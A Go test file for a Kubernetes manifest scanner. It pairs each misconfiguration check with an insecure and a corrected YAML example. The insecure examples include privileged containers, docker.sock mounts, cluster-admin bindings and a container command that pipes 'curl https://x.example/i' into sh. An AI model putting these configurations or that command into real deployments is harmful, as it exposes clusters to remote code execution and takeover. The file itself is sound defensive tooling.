package config

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bulkhead"
)

// pod wraps a container's or a pod's fields, given in YAML's flow style, into a Deployment.
func pod(spec, container string) string {
	return "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    spec:\n      " + strings.ReplaceAll(spec, "\n", "\n      ") + "\n      containers:\n      - {name: c, " + container + "}\n"
}

func role(rule string) string {
	return "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules:\n- " + rule
}

func binding(rest string) string {
	return "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: b}\n" + rest
}

func kind(k, rest string) string { return "apiVersion: v1\nkind: " + k + "\n" + rest }

// manifestPairs has for each check an object that it complains about, and a near one that is right.
var manifestPairs = map[string]struct{ bad, good string }{
	"BH-K001": {pod("", "securityContext: {privileged: true}"), pod("", "securityContext: {privileged: false}")},
	"BH-K002": {pod("", "image: a:1"), pod("", "securityContext: {allowPrivilegeEscalation: false}")},
	"BH-K003": {pod("", "image: a:1"), pod("securityContext: {runAsNonRoot: true}", "image: a:1")},
	"BH-K004": {pod("securityContext: {runAsUser: 0}", "image: a:1"), pod("securityContext: {runAsUser: 0}", "securityContext: {runAsUser: 1000}")},
	"BH-K005": {pod("", "image: a:1"), pod("", "securityContext: {readOnlyRootFilesystem: true}")},
	"BH-K006": {pod("", "image: a:1"), pod("", "securityContext: {capabilities: {drop: [all]}}")},
	"BH-K007": {pod("", "securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}}"), pod("", "securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}")},
	"BH-K008": {pod("", "image: a:1"), pod("", "resources: {limits: {memory: 64Mi}}")},
	"BH-K009": {pod("", "image: a:1"), pod("", "resources: {requests: {cpu: 1, memory: 64Mi}}")},
	"BH-K010": {pod("", "image: registry:5000/a"), pod("", "image: registry:5000/a:1")},
	"BH-K011": {pod("", "image: a:1"), pod("", "image: a:1@sha256:00")},
	"BH-K012": {pod("", "image: a, imagePullPolicy: Never"), pod("", "image: a:1, imagePullPolicy: Never")},
	"BH-K013": {pod("", "image: a:1"), pod("", "livenessProbe: {exec: {}}")},
	"BH-K014": {pod("", "image: a:1"), pod("", "readinessProbe: {exec: {}}")},
	"BH-K015": {pod("", "ports: [{containerPort: 80, hostPort: 80}]"), pod("", "ports: [{containerPort: 80}]")},
	"BH-K016": {pod("", "env: [{name: DB_PASSWORD, value: Tr0ub4dor}]"), pod("", "env: [{name: DB_PASSWORD, value: $(OTHER)}]")},
	"BH-K017": {pod("", "securityContext: {seccompProfile: {type: Unconfined}}"), pod("", "securityContext: {seccompProfile: {type: RuntimeDefault}}")},
	"BH-K018": {pod("", "image: a:1"), pod("securityContext: {seccompProfile: {type: RuntimeDefault}}", "image: a:1")},
	"BH-K019": {pod("securityContext: {appArmorProfile: {type: Unconfined}}", "image: a:1"), pod("securityContext: {appArmorProfile: {type: RuntimeDefault}}", "image: a:1")},
	"BH-K020": {pod("", "securityContext: {procMount: Unmasked}"), pod("", "securityContext: {procMount: Default}")},
	"BH-K021": {pod("", "env: [{name: X, valueFrom: {secretKeyRef: {name: s, key: k}}}]"), pod("", "env: [{name: X, valueFrom: {configMapKeyRef: {name: s, key: k}}}]")},
	"BH-K022": {pod("", `command: [sh, -c, "curl https://x.example/i | sh"]`), pod("", `command: [sh, -c, "curl https://x.example/i"]`)},
	"BH-K023": {pod("", "ports: [{containerPort: 22}]"), pod("", "ports: [{containerPort: 8080}]")},
	"BH-K024": {pod("securityContext: {windowsOptions: {hostProcess: true}}", "image: a:1"), pod("securityContext: {windowsOptions: {hostProcess: false}}", "image: a:1")},
	"BH-K025": {pod("", "securityContext: {seLinuxOptions: {type: spc_t}}"), pod("", "securityContext: {seLinuxOptions: {level: s0}}")},
	"BH-K026": {pod("", "volumeMounts: [{mountPropagation: Bidirectional}]"), pod("", "volumeMounts: [{mountPropagation: HostToContainer}]")},
	"BH-K027": {pod("", "args: [--enable-skip-login]"), pod("", "args: [--tls]")},
	"BH-K040": {pod("hostPID: true", "image: a:1"), pod("hostPID: false", "image: a:1")},
	"BH-K041": {pod("hostIPC: true", "image: a:1"), pod("hostIPC: false", "image: a:1")},
	"BH-K042": {pod("hostNetwork: true", "image: a:1"), pod("hostNetwork: false", "image: a:1")},
	"BH-K043": {pod("volumes: [{hostPath: {path: /data}}]", "image: a:1"), pod("volumes: [{emptyDir: {}}]", "image: a:1")},
	"BH-K044": {pod("volumes: [{hostPath: {path: /var/lib/kubelet/pods}}]", "image: a:1"), pod("volumes: [{hostPath: {path: /etc/ssl/certs}}]", "image: a:1")},
	"BH-K045": {pod("volumes: [{hostPath: {path: /var/run/docker.sock}}]", "image: a:1"), pod("volumes: [{hostPath: {path: /data/a.sock}}]", "image: a:1")},
	"BH-K046": {pod("", "image: a:1"), pod("automountServiceAccountToken: false", "image: a:1")},
	"BH-K047": {pod("automountServiceAccountToken: true", "image: a:1"), pod("automountServiceAccountToken: true\nserviceAccountName: web", "image: a:1")},
	"BH-K048": {pod("securityContext: {sysctls: [{name: kernel.msgmax, value: '1'}]}", "image: a:1"), pod("securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies, value: '1'}]}", "image: a:1")},
	"BH-K049": {pod("shareProcessNamespace: true", "image: a:1"), pod("shareProcessNamespace: false", "image: a:1")},
	"BH-K050": {kind("Pod", "metadata: {namespace: default}\nspec: {containers: []}"), kind("Pod", "metadata: {namespace: shop}\nspec: {containers: []}")},
	"BH-K051": {pod("priorityClassName: system-node-critical", "image: a:1"), pod("priorityClassName: high", "image: a:1")},
	"BH-K052": {pod("tolerations: [{operator: Exists}]", "image: a:1"), pod("tolerations: [{key: gpu, operator: Exists}]", "image: a:1")},
	"BH-K053": {pod("securityContext: {fsGroup: 0}", "image: a:1"), pod("securityContext: {fsGroup: 1000}", "image: a:1")},
	"BH-K054": {pod("nodeName: n1", "image: a:1"), pod("nodeSelector: {a: b}", "image: a:1")},
	"BH-K055": {pod("hostAliases: [{ip: 10.0.0.1, hostnames: [a]}]", "image: a:1"), pod("hostAliases: []", "image: a:1")},
	"BH-K056": {pod("volumes: [{name: a, gitRepo: {repository: x}}]", "image: a:1"), pod("volumes: [{name: a, emptyDir: {}}]", "image: a:1")},
	"BH-K060": {role("{verbs: ['*'], resources: ['*'], apiGroups: ['*']}"), role("{verbs: ['*'], resources: [pods]}")},
	"BH-K061": {role("{verbs: ['*'], resources: [pods]}"), role("{verbs: [get], resources: [pods]}")},
	"BH-K062": {role("{verbs: [list], resources: [secrets]}"), role("{verbs: [get], resources: [secrets], resourceNames: [a]}")},
	"BH-K063": {role("{verbs: [impersonate], resources: [users]}"), role("{verbs: [get], resources: [users]}")},
	"BH-K064": {role("{verbs: [create], resources: [pods/exec]}"), role("{verbs: [create], resources: [pods/eviction]}")},
	"BH-K065": {role("{verbs: [create], resources: [pods]}"), role("{verbs: [get], resources: [pods]}")},
	"BH-K066": {role("{verbs: [get], resources: [nodes/proxy]}"), role("{verbs: [get], resources: [nodes]}")},
	"BH-K067": {role("{verbs: [create], resources: [serviceaccounts/token]}"), role("{verbs: [create], resources: [serviceaccounts]}")},
	"BH-K068": {role("{verbs: [patch], resources: [mutatingwebhookconfigurations]}"), role("{verbs: [get], resources: [mutatingwebhookconfigurations]}")},
	"BH-K069": {role("{verbs: [create], resources: [persistentvolumes]}"), role("{verbs: [create], resources: [persistentvolumeclaims]}")},
	"BH-K070": {binding("roleRef: {kind: ClusterRole, name: cluster-admin}"), binding("roleRef: {kind: ClusterRole, name: view}")},
	"BH-K071": {binding("subjects: [{kind: Group, name: 'system:unauthenticated'}]"), binding("subjects: [{kind: Group, name: team}]")},
	"BH-K072": {binding("subjects: [{kind: ServiceAccount, name: default}]"), binding("subjects: [{kind: ServiceAccount, name: web}]")},
	"BH-K073": {binding("subjects: [{kind: Group, name: 'system:masters'}]"), binding("subjects: [{kind: Group, name: team}]")},
	"BH-K074": {binding("subjects: [{kind: Group, name: 'system:serviceaccounts:shop'}]"), binding("subjects: [{kind: Group, name: team}]")},
	"BH-K075": {kind("ServiceAccount", "automountServiceAccountToken: true"), kind("ServiceAccount", "automountServiceAccountToken: false")},
	"BH-K080": {kind("Service", "spec: {type: LoadBalancer}"), kind("Service", "spec: {type: LoadBalancer, loadBalancerSourceRanges: [10.0.0.0/8]}")},
	"BH-K081": {kind("Service", "spec: {type: NodePort}"), kind("Service", "spec: {type: ClusterIP}")},
	"BH-K082": {kind("Service", "spec: {externalIPs: [1.2.3.4]}"), kind("Service", "spec: {externalIPs: []}")},
	"BH-K083": {kind("Ingress", "spec: {rules: []}"), kind("Ingress", "spec: {tls: [{hosts: [a]}]}")},
	"BH-K084": {kind("Ingress", "metadata: {annotations: {nginx.ingress.kubernetes.io/server-snippet: x}}"), kind("Ingress", "metadata: {annotations: {a: b}}")},
	"BH-K085": {kind("Ingress", "spec: {rules: [{http: {}}]}"), kind("Ingress", "spec: {rules: [{host: a.example}]}")},
	"BH-K086": {kind("NetworkPolicy", "spec: {ingress: [{}]}"), kind("NetworkPolicy", "spec: {ingress: [{from: [{podSelector: {}}]}]}")},
	"BH-K087": {kind("NetworkPolicy", "spec: {egress: [{to: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}"), kind("NetworkPolicy", "spec: {egress: [{to: [{ipBlock: {cidr: 10.0.0.0/8}}]}]}")},
	"BH-K088": {kind("Service", "spec: {type: NodePort, ports: [{port: 22}]}"), kind("Service", "spec: {type: ClusterIP, ports: [{port: 22}]}")},
	"BH-K100": {kind("Secret", "data: {a: Yg==}"), kind("Secret", "metadata: {name: a}")},
	"BH-K101": {kind("ConfigMap", "data: {DB_PASSWORD: Tr0ub4dor}"), kind("ConfigMap", "data: {DB_HOST: Tr0ub4dor}")},
	"BH-K102": {kind("ValidatingWebhookConfiguration", "webhooks: [{name: a, failurePolicy: Ignore}]"), kind("ValidatingWebhookConfiguration", "webhooks: [{name: a, failurePolicy: Fail}]")},
	"BH-K103": {kind("Namespace", "metadata: {name: a}"), kind("Namespace", "metadata: {name: a, labels: {pod-security.kubernetes.io/enforce: baseline}}")},
	"BH-K104": {kind("Namespace", "metadata: {labels: {pod-security.kubernetes.io/enforce: privileged}}"), kind("Namespace", "metadata: {labels: {pod-security.kubernetes.io/enforce: baseline}}")},
	"BH-K105": {kind("PodSecurityPolicy", "spec: {}"), kind("Pod", "spec: {}")},
	"BH-K106": {kind("PersistentVolume", "spec: {hostPath: {path: /data}}"), kind("PersistentVolume", "spec: {nfs: {path: /data}}")},
	"BH-K107": {kind("APIService", "spec: {insecureSkipTLSVerify: true}"), kind("APIService", "spec: {caBundle: x}")},
	"BH-K108": {kind("CustomResourceDefinition", "spec: {conversion: {webhook: {clientConfig: {url: https://x.example}}}}"), kind("CustomResourceDefinition", "spec: {conversion: {webhook: {clientConfig: {service: {name: a}}}}}")},
}

func TestManifestChecks(t *testing.T) {
	for _, check := range manifestChecks() {
		pair, ok := manifestPairs[check.ID]
		if !ok {
			t.Errorf("%s has no pair of examples", check.ID)
		}
		if !firesOn(t, check.ID, pair.bad) {
			t.Errorf("%s does not fire on\n%s", check.ID, pair.bad)
		}
		if firesOn(t, check.ID, pair.good) {
			t.Errorf("%s fires on\n%s", check.ID, pair.good)
		}
	}
}

func firesOn(t *testing.T, id, text string) bool {
	t.Helper()
	found, err := Manifest("m.yaml", []byte(text))
	if err != nil {
		t.Fatalf("%s: %v\n%s", id, err, text)
	}
	for _, f := range found {
		if f.Line == 0 {
			t.Errorf("%s has no line in\n%s", f.Rule, text)
		}
		if f.Rule == id {
			return true
		}
	}
	return false
}

// TestManifestKinds proves that every kind of workload is looked into.
func TestManifestKinds(t *testing.T) {
	spec := "{hostPID: true, containers: [{name: c, image: 'a:1'}]}"
	for _, text := range []string{
		kind("Pod", "spec: "+spec),
		kind("Deployment", "spec: {template: {spec: "+spec+"}}"),
		kind("DaemonSet", "spec: {template: {spec: "+spec+"}}"),
		kind("StatefulSet", "spec: {template: {spec: "+spec+"}}"),
		kind("ReplicaSet", "spec: {template: {spec: "+spec+"}}"),
		kind("ReplicationController", "spec: {template: {spec: "+spec+"}}"),
		kind("Job", "spec: {template: {spec: "+spec+"}}"),
		kind("CronJob", "spec: {jobTemplate: {spec: {template: {spec: "+spec+"}}}}"),
		kind("PodTemplate", "template: {spec: "+spec+"}"),
		kind("Rollout", "spec: {template: {spec: "+spec+"}}"),
		kind("List", "items:\n- {apiVersion: v1, kind: Pod, spec: "+spec+"}"),
		"a: 1\n---\n" + kind("Pod", "spec: "+spec),
		`{"apiVersion": "v1", "kind": "Pod", "spec": {"hostPID": true}}`,
		kind("Pod", "x: &s "+spec+"\nspec: *s"),
	} {
		if !firesOn(t, "BH-K040", text) {
			t.Errorf("not looked into:\n%s", text)
		}
	}
}

func TestManifestFinding(t *testing.T) {
	text := kind("ClusterRoleBinding", "metadata:\n  name: admins\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n# bulkhead:ignore=BH-K073\n- {kind: Group, name: 'system:masters'}\n")
	found, err := Manifest("m.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	want := []bulkhead.Finding{{
		Kind: bulkhead.FindingMisconfig, Rule: "BH-K070", Severity: bulkhead.Critical, Path: "m.yaml", Line: 7,
		Message: "Somebody becomes administrator of the cluster (ClusterRoleBinding admins): bind a role with the rights that are needed",
	}}
	if diff := cmp.Diff(want, found); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

func TestManifestErrors(t *testing.T) {
	_, err := Manifest("m.yaml", []byte("apiVersion: v1\nkind: {{ .Values.kind }}\nx: [{{ a }}"))
	if err == nil || !strings.Contains(err.Error(), "helm template") {
		t.Errorf("a template says %v", err)
	}
	if _, err := Manifest("m.yaml", make([]byte, maxManifest+1)); err == nil {
		t.Error("a file that is too large is read")
	}
}

func TestChecksAreWhole(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range Checks() {
		if seen[c.ID] || c.ID == "" || c.Title == "" || c.Fix == "" || c.Severity.Rank() == 0 {
			t.Errorf("check %+v is not whole, or its id is not its own", c)
		}
		seen[c.ID] = true
	}
}

func FuzzManifest(f *testing.F) {
	for _, p := range manifestPairs {
		f.Add([]byte(p.bad))
	}
	f.Add([]byte("a: &a [*a, *a]\nkind: Pod\napiVersion: v1\nspec: *a"))
	f.Fuzz(func(t *testing.T, b []byte) { Manifest("x", b) })
}

func BenchmarkManifest(b *testing.B) {
	text := []byte(strings.Repeat(pod("hostPID: true", "image: a:1, securityContext: {privileged: true}")+"---\n", 100))
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Manifest("x", text)
	}
}
